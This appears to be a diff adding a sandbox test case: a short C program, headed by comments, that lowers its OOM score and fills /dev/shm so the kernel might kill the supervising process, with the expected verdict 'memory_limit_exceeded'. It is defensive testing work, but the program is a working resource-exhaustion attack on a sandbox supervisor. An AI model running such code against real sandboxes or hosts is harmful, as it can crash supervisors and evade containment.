@@ -1,0 +1,19 @@
+// attack: lower one's OOM score to the supervisor's, then fill the memory with files, so that the kernel kills the supervisor
+// contained: the worker sees what killed the box; the verdict is the program's
+// expect: memory_limit_exceeded
+// breaks: the kernel may choose the supervisor
+
+#include <fcntl.h>
+#include <stdio.h>
+#include <unistd.h>
+static char block[65536] = {1};
+int main(void) {
+    write(open("/proc/self/oom_score_adj", O_WRONLY), "0", 1);
+    char name[64];
+    for (int number = 0; number < 20; number++) {
+        sprintf(name, "/dev/shm/%d", number);
+        int file = open(name, O_CREAT | O_WRONLY, 0600);
+        for (int i = 0; i < 200; i++)
+            if (write(file, block, 65536) < 0) break;
+    }
+}
